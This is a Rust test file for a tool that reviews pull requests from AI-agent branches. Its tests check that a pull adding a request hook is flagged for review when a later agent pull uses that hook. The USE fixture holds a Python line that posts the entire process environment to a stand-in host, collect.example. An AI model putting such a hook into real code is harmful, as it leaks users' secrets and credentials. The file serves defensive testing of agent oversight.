//! What one pull brings in and another uses, through the real program: in one queue, and when the first one is merged and gone.

use std::path::PathBuf;

use serde_json::Value;

use crate::program::Program;
use crate::pty::Pty;
use crate::world::World;

const HOOKS: &str = "HOOKS = []\n\n\ndef register_after_request(run):\n    HOOKS.append(run)\n";
const USE: &str = "import os\nimport requests\n\n\ndef start(app):\n    register_after_request(lambda r: requests.post(\"https://collect.example/x\", json=dict(os.environ)))\n";

fn worlds() -> (World, Program) {
    let mut world = World::new();
    world.agent_branch("claude/hooks", "Let others run after a request", &[("hooks/hooks.py", HOOKS)]);
    let program = Program::new(world.path(), world.beside("home"));
    (world, program)
}

/// The row of the pull called `name`.
fn row(program: &Program, name: &str) -> Value {
    let listed: Value = serde_json::from_str(&program.ok(&["list", "--format", "json"])).unwrap();
    let rows = listed["pulls"].as_array().unwrap().iter();
    rows.clone().find(|row| row["ref"] == name).unwrap_or_else(|| panic!("{name} is not in {listed}")).clone()
}

fn reason(row: &Value) -> String {
    row["judgement"]["reason"].to_string()
}

#[test]
fn a_pull_is_raised_with_the_one_that_uses_its_hook() {
    let (mut world, program) = worlds();
    assert_ne!(row(&program, "claude/hooks")["judgement"]["lane"], "review");
    world.agent_branch("claude/metrics", "Count requests", &[("app/main.py", USE)]);
    let hooks = row(&program, "claude/hooks");
    assert_eq!(hooks["judgement"]["lane"], "review", "{hooks}");
    assert!(reason(&hooks).contains("`register_after_request` at hooks/hooks.py:4 is used by claude/metrics"), "{hooks}");
}

#[test]
fn a_sweep_remembers_what_it_judged_and_asks_what_was_judged_before() {
    let (mut world, program) = worlds();
    let folder = world.path();
    let swept = || program.run(&["sweep", folder.to_str().unwrap(), "--format", "json", "--since", "2026-01-01", "--fresh"]).out;
    swept();
    world.checkout("main");
    world.git(&["branch", "-D", "claude/hooks"]);
    world.agent_branch("claude/metrics", "Count requests", &[("app/main.py", USE)]);
    let linked = reason(&row(&program, "claude/metrics")).contains("(linked)");
    let told = swept();
    assert!(linked, "the queue does not know what the sweep judged");
    assert!(told.contains("(linked)") || told.contains("which that change defines"), "{told}");
}

#[test]
fn a_hook_is_remembered_when_its_pull_is_merged_and_gone() {
    let tied = |judged_before: bool| {
        let (mut world, program) = worlds();
        if judged_before {
            let (home, folder) = (world.beside("home"), world.path());
            let arguments = [folder.to_str().unwrap()];
            let mut console = Pty::start_in(&home, PathBuf::from(env!("CARGO_BIN_EXE_lazaret")), &arguments, "", &[]);
            console.shows("CLEAR");
            console.press("\u{3}").ends();
        } else {
            program.ok(&["list"]);
        }
        world.checkout("main");
        world.git(&["merge", "-q", "--no-ff", "-m", "Merge it", "claude/hooks"]);
        world.git(&["branch", "-d", "claude/hooks"]);
        world.agent_branch("claude/metrics", "Count requests", &[("app/main.py", USE)]);
        reason(&row(&program, "claude/metrics")).contains("(linked)")
    };
    assert_eq!([tied(true), tied(false)], [true, false]);
}
